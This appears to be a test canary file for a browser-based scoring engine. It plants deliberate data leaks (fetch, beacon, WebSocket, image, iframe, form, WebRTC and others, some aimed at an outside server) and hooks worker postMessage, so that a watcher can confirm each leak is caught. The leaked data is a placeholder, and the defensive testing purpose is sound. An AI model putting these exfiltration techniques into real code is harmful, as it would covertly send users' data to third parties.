// Planted leaks: what a bad dependency or a bad change could do once the engine has answered with scores. The build takes this file in
// only for the canary, which must be caught (see watched.mjs). `?leak=picture` fires in the page, `?leak=worker-fetch` in the worker;
// `other` is a server that nothing may reach, `udp` the port of one for calls.
const WORDS = "what-was-scored";

const kinds = {
  fetch: ({ own }) => fetch(`${own}/leak?${WORDS}`),
  elsewhere: ({ other }) => fetch(`${other}/leak?${WORDS}`, { mode: "no-cors" }),
  beacon: ({ own }) => navigator.sendBeacon(`${own}/leak`, WORDS),
  request: ({ own }) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${own}/leak`);
    request.send(WORDS);
  },
  socket: ({ own }) => new WebSocket(`${own.replace(/^http/, "ws")}/leak?${WORDS}`),
  stream: ({ own }) => new EventSource(`${own}/leak?${WORDS}`),
  import: ({ own }) => import(`${own}/leak.js?${WORDS}`),
  picture: ({ other }) => { new Image().src = `${other}/leak?${WORDS}`; },
  style: ({ own }) => add("link", { rel: "stylesheet", href: `${own}/leak.css?${WORDS}` }),
  prefetch: ({ own }) => add("link", { rel: "prefetch", href: `${own}/leak?${WORDS}` }),
  frame: ({ other }) => add("iframe", { src: `${other}/leak?${WORDS}` }),
  form: ({ other }) => {
    add("iframe", { name: "leak" });
    add("form", { action: `${other}/leak?${WORDS}`, target: "leak" }).submit();
  },
  call: async ({ udp }) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
    call.createDataChannel(WORDS);
    await call.setLocalDescription(await call.createOffer());
    globalThis.keptCall = call;
  },
};

function add(tag, attributes) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  return document.body.appendChild(element);
}

async function fire(leak) {
  try {
    await kinds[leak.kind](leak);
  } catch {
    // Refused: what counts is that it is seen.
  }
}

if (globalThis.document === undefined) inWorker();
else inPage();

function inPage() {
  const params = new URLSearchParams(location.search);
  const leak = { kind: params.get("leak") ?? "", other: params.get("other"), udp: params.get("udp"), own: location.origin };
  if (leak.kind.startsWith("worker-")) {
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (...given) {
      Worker.prototype.postMessage = postMessage;
      this.postMessage({ leak: { ...leak, kind: leak.kind.slice("worker-".length) } });
      this.postMessage(...given);
    };
  } else if (leak.kind !== "") {
    let fired = false;
    document.addEventListener("rapport-report", ({ detail }) => {
      if (fired || detail.headline.clients === 0) return;
      fired = true;
      void fire(leak);
    });
  }
}

/** Told by the page what to do, it does so with the first answer that holds scores. */
function inWorker() {
  let leak = null;
  self.addEventListener("message", (event) => {
    if (event.data?.leak === undefined) return;
    leak = event.data.leak;
    event.stopImmediatePropagation();
  });
  const post = self.postMessage.bind(self);
  self.postMessage = (reply, options) => {
    post(reply, options);
    if (leak === null || !(reply?.result?.headline?.clients > 0)) return;
    void fire(leak);
    leak = null;
  };
}
